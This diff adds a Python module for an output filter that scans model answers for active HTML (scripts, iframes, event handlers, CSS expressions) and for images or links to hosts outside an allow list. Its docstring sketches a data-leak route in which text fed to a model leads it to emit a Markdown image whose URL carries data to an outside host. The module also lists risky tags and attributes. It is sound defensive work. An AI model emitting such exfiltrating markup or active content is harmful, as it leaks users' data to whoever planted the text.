@@ -1,0 +1,439 @@
+"""Markup that does more than show text: what runs, and what calls a host that is not allowed.
+
+An answer that is shown as Markdown or HTML can send what it knows to whoever wrote the text that the model was given:
+the picture `![](https://host/?q=...)` is fetched by the reader's browser as soon as it is shown (OWASP LLM02, LLM05).
+
+What a text means depends on what shows it: as Markdown, where a tag that is not well-formed is text, or as HTML, where
+nearly anything is one. So a text is read in every way at once, and what counts in one of them counts. Everything is
+decided from left to right; held is the target of a link until it ends, at most `LONGEST` characters, or a name.
+"""
+
+from __future__ import annotations
+
+import html
+import re
+from collections.abc import Sequence
+from enum import Enum, auto
+from typing import Final, NamedTuple
+
+from tidegate.filtering.spotting import Effort, Mark
+from tidegate.filtering.urls import Hosts, Leads
+
+LONGEST: Final = 2048
+"""Characters of a target that are looked at as one; what goes on with it belongs to it, piece by piece."""
+
+ACTIVE_CONTENT: Final = "ACTIVE_CONTENT"
+EXTERNAL_IMAGE: Final = "EXTERNAL_IMAGE"
+EXTERNAL_LINK: Final = "EXTERNAL_LINK"
+MARKUP: Final = frozenset({ACTIVE_CONTENT, EXTERNAL_IMAGE, EXTERNAL_LINK})
+"""What can be found: what runs, what is fetched by itself, what is fetched when the reader follows it."""
+
+_FLAGS: Final = re.ASCII | re.IGNORECASE
+_TAGS: Final = (
+    "script|iframe|frame|frameset|object|embed|applet|style|link|meta|base|form|template|noscript|noembed|portal|xmp"
+    "|plaintext"
+)
+_NAMES: Final = (
+    "on[a-z]{3,28}|src|srcset|href|xlink:href|action|formaction|poster|background|data|cite|longdesc|ping|manifest"
+    "|codebase|classid|archive|imagesrcset|lowsrc|dynsrc|profile|style|to|from|by|values|srcdoc"
+)
+_TEXT: Final = r"(?:!?\[)+|\]|(?:\\[!-/:-@\[-`{-~])+|\\|(?<=\n)\r?\n|<(?=[A-Za-z/])|:[/\\]{2}|(?<![\w@/.-])www\."
+_OUTSIDE: Final = re.compile(_TEXT, _FLAGS)
+_INSIDE: Final = re.compile(rf"{_TEXT}|(?<![^\s\"'/])(?:{_NAMES})(?![^\s=/>\"'<])", _FLAGS)
+_SCHEME_BEFORE: Final = re.compile(r"(?:https?|wss?|ftps?)\Z", _FLAGS)
+_AUTOLINK: Final = re.compile(r"<(?:https?|wss?|ftps?|javascript|vbscript|data|file|blob):", _FLAGS)
+_TAG: Final = re.compile(r"</?([A-Za-z][A-Za-z0-9:-]{0,31})(?![^\s/>])", _FLAGS)
+_RISKY: Final = re.compile(_TAGS, _FLAGS)
+_UNQUOTED: Final = re.compile(r"(?:[^\"'>]++|\"[^\">]*+\"|'[^'>]*+')*+")
+_ANGLE: Final = re.compile(r"[<>]")
+_EVENTS: Final = re.compile(r"<(?=[A-Za-z])|[>\"'=]")
+_SPACE: Final = re.compile(r"\s*", re.ASCII)
+_LEADING: Final = re.compile(r"[A-Za-z/\\&\x00-\x20]")
+"""What a target begins with that is not surely relative."""
+_ADDRESS: Final = re.compile(r"\[[0-9A-Fa-f:.]*\]?")
+_STARTS: Final = (
+    r"<(?:/?[A-Za-z][A-Za-z0-9:+.-]{0,31}|/)?|[\]\\]|(?:h(?:t(?:t(?:ps?)?)?)?|w(?:ss?)?|f(?:t(?:ps?)?)?)?:[/\\]?"
+    r"|h(?:t(?:t(?:ps?)?)?)?|w(?:ss?)?|f(?:t(?:ps?)?)?|www?|\r"
+)
+_TAIL_OUTSIDE: Final = re.compile(rf"(?:{_STARTS})\Z", _FLAGS)
+_TAIL_INSIDE: Final = re.compile(rf"(?:{_STARTS}|(?<![^\s\"'/])[a-z:]{{1,31}})\Z", _FLAGS)
+_REACH: Final = 40  # characters of the longest of those
+_STYLE_URL: Final = re.compile(r"url\(\s*[\"']?([^\"')]*)", _FLAGS)
+_STYLE_CODE: Final = re.compile(r"\\|expression\s*\(|@import|image-set|-moz-binding|behavior\s*:", _FLAGS)
+_PAIRS: Final = re.compile(r"\\[!-/:-@\[-`{-~]|[()\s\x00-\x1f]", re.ASCII)
+_AFTER: Final = ".,;:!?'*_)}~|"  # what a sentence puts behind an address
+_DEEPEST: Final = 64  # brackets
+_NESTED: Final = 4  # targets in targets
+_TAG_LONGEST: Final = 400
+_PARTS: Final = 64  # of a srcset
+_LINKS: Final = frozenset({"action", "formaction", "cite", "longdesc"})
+_QUOTES: Final = "\"'"
+
+
+class _Kind(Enum):
+    """What a target is, and so what it does."""
+
+    IMAGE = auto()
+    LINK = auto()
+    CODE = auto()
+    STYLE = auto()
+    SET = auto()
+
+
+class _Target(NamedTuple):
+    """A target that is expected; `ends` is what ends it."""
+
+    kind: _Kind
+    name: str
+    ends: re.Pattern[str]
+    markdown: bool = False
+
+
+_INLINE: Final = re.compile(r"[\s\x00-\x1f)]", re.ASCII)
+_ANGLED: Final = re.compile(r"[<>\n]")
+_SPACED: Final = re.compile(r"\s", re.ASCII)
+_PLAIN: Final = re.compile(r"[\s>]", re.ASCII)
+_QUOTED: Final = {quote: re.compile(quote) for quote in _QUOTES}
+_BARE: Final = _Target(_Kind.LINK, "url", re.compile(r"[\s<>\"`\[\]\u3000-\u303f\uff00-\uffef]"))
+
+
+class MarkupSpotter:
+    """Finds markup that runs or leads to hosts other than `hosts`. Stateless, and shared between threads."""
+
+    entities = MARKUP
+    effort = Effort.QUICK
+    cap = LONGEST + _REACH
+
+    def __init__(self, hosts: Hosts) -> None:
+        self.hosts = hosts
+
+    def open(self) -> MarkupReading:
+        """Begin with a text."""
+        return MarkupReading(self.hosts)
+
+
+class MarkupReading:
+    """One text. Places are of `_text`, which begins with the character before what is not decided."""
+
+    def __init__(self, hosts: Hosts) -> None:
+        self._hosts = hosts
+        self._text = ""
+        self._base = 0  # where in the whole text `_text` starts
+        self._at = 0  # all before it is decided
+        self._marks: list[Mark] = []
+        self._brackets: list[bool] = []  # those that are open in Markdown: whether of an image
+        self._image = False  # whether one may have been taken for closed: that bracket was code, say
+        self._tag = _OpenTag()
+        self._named: _Target | None = None  # an attribute, until its = comes
+        self._expected: _Target | None = None  # a target, until it begins
+        self._running: tuple[str, _Target] | None = None  # one that is too long, and what it is
+        self._waits: dict[bool, int] = {}  # where what may go on begins, inside of a tag and outside
+        self._inside: list[int] = []  # the ends of targets that lead nowhere, and are read as text too
+
+    @property
+    def decided(self) -> int:
+        """The place before which all is told."""
+        return self._base + self._at
+
+    def feed(self, text: str) -> Sequence[Mark]:
+        """What is certain now."""
+        return self._read(text, final=False)
+
+    def finish(self) -> Sequence[Mark]:
+        """What the end makes certain."""
+        return self._read("", final=True)
+
+    def _read(self, text: str, *, final: bool) -> list[Mark]:
+        self._text += text
+        self._marks = []
+        self._waits = {}
+        while self._step(final):
+            pass
+        if final:
+            self._at = len(self._text)
+        self._tag.walk(self._text, self._at)
+        keep = max(0, self._at - 1)
+        self._text = self._text[keep:]
+        self._base += keep
+        self._at -= keep
+        self._tag.walked -= keep
+        self._inside = [end - keep for end in self._inside]
+        return self._marks
+
+    def _step(self, final: bool) -> bool:
+        """One thing after the other; False when the rest must wait, or there is none."""
+        text, at = self._text, self._at
+        if self._running is not None:
+            return self._go_on(*self._running, final)
+        if self._named is not None or self._expected is not None:
+            self._at = at = _past_space(text, at)
+            if at == len(text):
+                return False
+            if self._expected is not None:
+                return self._meet_target(self._expected, at, final)
+            if text[at] == "=":
+                self._expected = self._named
+                self._at += 1
+            self._named = None
+            return True
+        inside = bool(self._tag.open)
+        found = (_INSIDE if inside else _OUTSIDE).search(text, at)
+        wait = len(text) if final else self._waits.get(inside, -1)
+        if wait < at:
+            tail = (_TAIL_INSIDE if inside else _TAIL_OUTSIDE).search(text, max(at, len(text) - _REACH))
+            wait = self._waits[inside] = len(text) if tail is None else tail.start()
+        if found is None or found.start() >= wait:
+            self._at = wait
+            return False
+        return self._meet(found, final)
+
+    def _meet(self, found: re.Match[str], final: bool) -> bool:
+        """Something that counts begins here."""
+        text, at, sign, before = self._text, found.start(), found[0], self._at
+        self._at = found.end()
+        self._tag.walk(text, at)
+        if sign[0] == "\\":
+            return True
+        if sign[-1] == "[":
+            self._open_brackets(sign, text[at - 1 : at] == "!")
+        elif sign == "]":
+            self._close_bracket(text[at + 1 : at + 2])
+        elif sign[-1] == "\n":
+            self._brackets.clear()
+            self._image = False
+        elif sign == "<":
+            return self._meet_tag(at, final)
+        elif sign[0] == ":":
+            scheme = _SCHEME_BEFORE.search(text, max(before, at - 5), at)
+            return scheme is None or self._meet_url(scheme.start(), found.end(), final)
+        elif sign[-1] == ".":
+            return self._meet_url(at, found.end(), final)
+        elif "" in self._tag.open:
+            at = _past_space(text, self._at)
+            if text[at : at + 1] in ("", "="):
+                self._named = self._attribute(sign.lower())
+        return True
+
+    def _open_brackets(self, sign: str, image: bool) -> None:
+        """A row of [ and ![; `image` tells whether an exclamation mark stands before it."""
+        room = _DEEPEST - len(self._brackets)
+        if room:
+            opened = sign[: 2 * room].split("[")[:-1]
+            self._brackets += [mark == "!" or (image and not at) for at, mark in enumerate(opened)][:room]
+
+    def _close_bracket(self, then: str) -> None:
+        image = any(self._brackets) or len(self._brackets) == _DEEPEST or self._image
+        if self._brackets and self._brackets.pop() and then != "(":
+            self._image = True
+        if then == "(":
+            kind = _Kind.IMAGE if image else _Kind.LINK
+            self._expected = _Target(kind, f"markdown-{kind.name.lower()}", _INLINE, markdown=True)
+        elif then == ":":  # a picture may refer to it
+            self._expected = _Target(_Kind.IMAGE, "markdown-reference", _SPACED, markdown=True)
+        self._at += self._expected is not None
+
+    def _meet_tag(self, at: int, final: bool) -> bool:
+        text = self._text
+        if text[at + 1] != "/":
+            self._tag.begin(text, at)
+        if _AUTOLINK.match(text, at):
+            self._expected = _Target(_Kind.LINK, "autolink", _PLAIN, markdown=True)
+            return True
+        tag = _TAG.match(text, at)
+        if tag is None:
+            return True
+        end = tag.end()
+        if _RISKY.fullmatch(tag[1]):
+            limit = end + _TAG_LONGEST
+            angle = _ANGLE.search(text, end, limit)
+            if angle is None and len(text) < limit and not final:
+                self._at = at
+                return False
+            if angle is not None and angle[0] == ">" and _UNQUOTED.fullmatch(text, end, angle.start()):
+                end = angle.end()
+            self._mark(ACTIVE_CONTENT, "tag", at, end)
+        self._at = end
+        return True
+
+    def _attribute(self, name: str) -> _Target:
+        if name.startswith("on") or name == "srcdoc":
+            return _Target(_Kind.CODE, "event-handler" if name.startswith("on") else name, _PLAIN)
+        if name == "style":
+            return _Target(_Kind.STYLE, name, _PLAIN)
+        if name in ("srcset", "imagesrcset"):
+            return _Target(_Kind.SET, name, _PLAIN)
+        link = name in _LINKS or (name == "href" and self._tag.links)
+        return _Target(_Kind.LINK if link else _Kind.IMAGE, name, _PLAIN)
+
+    def _meet_target(self, target: _Target, at: int, final: bool) -> bool:
+        text, start = self._text, at
+        if target.markdown and text[at] == "<":
+            target, start = target._replace(ends=_ANGLED), at + 1
+        elif not target.markdown and text[at] in _QUOTES:
+            target, start = target._replace(ends=_QUOTED[text[at]]), at + 1
+        if target.kind in (_Kind.IMAGE, _Kind.LINK) and start < len(text) and not _LEADING.match(text, start):
+            self._expected = None
+            return True
+        end = self._end_of(target, start)
+        if end is None and len(text) - start < LONGEST:
+            if not final:
+                return False
+            end = len(text)
+        self._expected = None
+        entity = self._judge(target, text[start : start + LONGEST if end is None else end])
+        return self._take(target, entity, start, end, otherwise=at)
+
+    def _meet_url(self, at: int, after: int, final: bool) -> bool:
+        """An address that stands in the text by itself."""
+        text = self._text
+        address = _ADDRESS.match(text, after)
+        end = self._end_of(_BARE, after if address is None else address.end())
+        if end is None and len(text) - after < LONGEST:
+            if not final:
+                self._at = at
+                return False
+            end = len(text)
+        if end is not None:
+            end = after + len(text[after:end].rstrip(_AFTER))
+        value = text[at : after + LONGEST if end is None else end]
+        entity = self._judge(_BARE, value if ":" in text[at:after] else f"https://{value}")
+        return self._take(_BARE, entity, at, end, otherwise=after)
+
+    def _end_of(self, target: _Target, start: int) -> int | None:
+        """Where a target ends; None where it is not over, or too long."""
+        text, limit = self._text, start + LONGEST
+        if target.ends is not _INLINE:
+            end = target.ends.search(text, start, limit)
+            return None if end is None else end.start()
+        depth = 0
+        for sign in _PAIRS.finditer(text, start, limit):
+            match sign[0]:
+                case "(":
+                    depth += 1
+                case ")" if depth:
+                    depth -= 1
+                case one if len(one) == 1:
+                    return sign.start()
+        return None
+
+    def _take(self, target: _Target, entity: str, start: int, end: int | None, *, otherwise: int) -> bool:
+        """A target is this entity, "" for none; what is none may still be text, from `otherwise` on."""
+        text = self._text
+        self._inside = [one for one in self._inside if one > start]
+        if not entity:
+            self._at = otherwise
+            self._inside.append(min(len(text), start + LONGEST) if end is None else end)
+            return True
+        over = end is None and len(text) - start >= LONGEST
+        stop = min(len(text), start + LONGEST) if end is None else end
+        if stop > start:
+            self._mark(entity, target.name, start, stop)
+        self._at = stop
+        if over:
+            self._running = entity, target
+            self._at -= 1  # so that the next piece overlaps with this one, and both are one value
+        return True
+
+    def _go_on(self, entity: str, target: _Target, final: bool) -> bool:
+        text, at = self._text, self._at
+        found = target.ends.search(text, at + 1, at + 1 + LONGEST)
+        if found is None and not final and len(text) - at - 1 < LONGEST:
+            return False
+        stop = min(len(text), at + 1 + LONGEST) if found is None else found.start()
+        if stop > at + 1:
+            self._mark(entity, target.name, at, stop)
+        over = (found is None and stop < len(text)) or (found is None and not final)
+        self._running = (entity, target) if over else None
+        self._at = stop - over
+        return True
+
+    def _judge(self, target: _Target, value: str) -> str:
+        """What a target is, "" for nothing that counts."""
+        hosts, image = self._hosts, target.kind is not _Kind.LINK
+        if len([end for end in self._inside if end > self._at]) >= _NESTED:  # nobody writes so many into each other
+            return EXTERNAL_IMAGE if image else EXTERNAL_LINK
+        match target.kind:
+            case _Kind.CODE:
+                return ACTIVE_CONTENT if value.strip() else ""
+            case _Kind.STYLE:
+                style = html.unescape(value)
+                parts = _STYLE_URL.findall(style)
+                worst = Leads.CODE if _STYLE_CODE.search(style) else Leads.NOWHERE
+            case _Kind.SET:
+                parts = [part.split()[0] for part in html.unescape(value).split(",") if part.split()]
+                worst = Leads.NOWHERE if len(parts) <= _PARTS else Leads.OUT
+                parts = parts[:_PARTS]
+            case _:
+                parts, worst = [value], Leads.NOWHERE
+        worst = max((worst, *(hosts.leads(part, image=image) for part in parts)), key=lambda leads: leads.value)
+        match worst:
+            case Leads.NOWHERE:
+                return ""
+            case Leads.CODE:
+                return ACTIVE_CONTENT
+        return EXTERNAL_IMAGE if image else EXTERNAL_LINK
+
+    def _mark(self, entity: str, name: str, start: int, end: int) -> None:
+        self._marks.append(Mark(entity, name, self._base + start, self._base + end))
+
+
+class _OpenTag:
+    """Which ways there are to read the text as within a tag, up to `walked`.
+
+    `open` has "" for between attributes, a quote for in one that has it, "=" for behind that sign. `links` tells
+    whether all tags that may be open are such that their reader follows them.
+    """
+
+    def __init__(self) -> None:
+        self.open: set[str] = set()
+        self.walked = 0
+        self.links = False
+
+    def walk(self, text: str, end: int) -> None:
+        """Read on to `end`. What stands behind it is looked at where a sign needs it."""
+        at = self.walked
+        if "=" in self.open:
+            at = self._behind(text, at)
+        while at < end:
+            event = _EVENTS.search(text, at) if self.open else None
+            if event is None or event.start() >= end:
+                break
+            at = event.end()
+            match event[0]:
+                case ">":
+                    self.open.discard("")
+                case "=":
+                    if "" in self.open:
+                        self.open.discard("")
+                        self.open.add("=")
+                        at = self._behind(text, at)
+                case "<":
+                    self.links = False
+                    self.open.add("")
+                case quote if quote in self.open:
+                    self.open.discard(quote)
+                    self.open.add("")
+        self.walked = max(at, end)
+
+    def begin(self, text: str, at: int) -> None:
+        """A tag begins here, the name of which is known to its end."""
+        tag = _TAG.match(text, at)
+        links = tag is not None and tag[1].lower() in ("a", "area")
+        self.links = links and (self.links or not self.open)
+        self.open.add("")
+        self.walked = at + 1
+
+    def _behind(self, text: str, at: int) -> int:
+        """What follows a =: a quote, or a value without."""
+        at = _past_space(text, at)
+        if at < len(text):
+            self.open.discard("=")
+            quoted = text[at] in _QUOTES
+            self.open.add(text[at] if quoted else "")
+            at += quoted
+        return at
+
+
+def _past_space(text: str, at: int) -> int:
+    found = _SPACE.match(text, at)
+    return at if found is None else found.end()
